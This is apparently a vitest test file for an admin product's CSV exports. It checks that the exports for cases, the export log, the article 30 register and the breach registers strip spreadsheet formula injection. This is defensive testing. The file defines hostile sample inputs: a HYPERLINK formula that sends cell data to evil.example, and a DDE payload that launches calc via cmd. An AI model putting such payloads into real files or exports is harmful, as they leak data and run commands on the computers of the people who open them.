import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeAdminHarness, type AdminHarness, type As } from '../../testing/admin-harness.js';
import { formulaCells } from '../../testing/csv-parse.js';
import { HOUR, validBreach } from '../breaches/testing.js';

/**
 * Every CSV the product writes, with hostile text in a field, read back the ways spreadsheets
 * read it (RFC 4180 with `,` and `;`, quotes ignored, cells split again on `, ; tab newline`):
 * no reading yields a cell that starts with a formula character.
 */
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
const hostile = (prefix: string) => `${prefix};${EVIL},+cmd|' /C calc'!A0\t-2+3\n@SUM(A1)`;

let h: AdminHarness;
const now = Date.parse('2030-03-01T09:00:00Z');
let tick = 0;
beforeEach(async () => {
  tick = 0;
  // A clock that moves: export-log rows written in one millisecond have no fixed order.
  h = await makeAdminHarness({ clock: { now: () => now + tick++ } });
});
afterEach(() => h.dispose());

async function csvOf(path: string, as: As) {
  const res = await h.admin(path, { as });
  expect(res.status, path).toBe(200);
  return res.text();
}

function expectNoFormulas(text: string, delimiter: ',' | ';') {
  expect(text).toContain('HYPERLINK');
  expect(formulaCells(text, delimiter)).toEqual([]);
}

describe('CSV formula guard inside cells', () => {
  it('case export (comma and semicolon): a hostile city, street and description', async () => {
    await h.submitCase('repair', (c) => {
      c.subject.city = hostile('Utrecht');
      c.subject.street = `Dorpsstraat,${EVIL}`;
      (c as { details: { description: string } }).details.description = hostile('Het scherm is kapot.');
    });
    const { auth } = await h.as('owner');
    expectNoFormulas(await csvOf('/exports/cases.csv', auth), ',');
    expectNoFormulas(await csvOf('/exports/cases.csv?delimiter=semicolon', auth), ';');
  });

  it('export log (comma and semicolon): a hostile API key name', async () => {
    const key = await h.keyFor({ role: 'owner', name: hostile('ERP koppeling') });
    expect((await h.admin('/logs/exports.json', { as: key })).status).toBe(200);
    const { auth } = await h.as('owner');
    expectNoFormulas(await csvOf('/logs/exports.csv', auth), ',');
    expectNoFormulas(await csvOf('/logs/exports.csv?delimiter=semicolon', auth), ';');
  });

  it('art. 30 register (comma and semicolon): a hostile controller address', async () => {
    const { auth: owner } = await h.as('owner');
    const contact = { name: 'Fietsenwinkel Test BV', address: `Damrak 1;${EVIL}`, email: 'privacy@fiets.example', phone: '+31 20 123 4567' };
    const put = await h.admin('/register/controller', { as: owner, method: 'PUT', body: { contact, dpo: { name: `Mr. A. de Vries,${EVIL}`, email: 'fg@fiets.example' } } });
    expect(put.status, await put.clone().text()).toBe(200);
    expectNoFormulas(await csvOf('/register.csv?lang=nl', owner), ',');
    expectNoFormulas(await csvOf('/register.csv?lang=en&delimiter=semicolon', owner), ';');
  });

  it('breach registers, operator and tenant (comma and semicolon): hostile description, consequences and measures', async () => {
    const { auth: operator } = await h.as('operator');
    const body = { ...validBreach({ discoveredAt: now - HOUR, tenantIds: [h.tenant.tenantId] }), description: hostile('Back-up openbaar'), consequences: `Phishing;${EVIL}`, measures: `Sleutels vervangen,${EVIL}` };
    const created = await h.admin('/platform-breaches', { as: operator, method: 'POST', body });
    expect(created.status, await created.clone().text()).toBe(201);
    expectNoFormulas(await csvOf('/platform-breaches/export.csv', operator), ',');
    expectNoFormulas(await csvOf('/platform-breaches/export.csv?delimiter=semicolon', operator), ';');
    const { auth: owner } = await h.as('owner');
    expectNoFormulas(await csvOf('/breaches/export.csv', owner), ',');
    expectNoFormulas(await csvOf('/breaches/export.csv?delimiter=semicolon', owner), ';');
  });
});
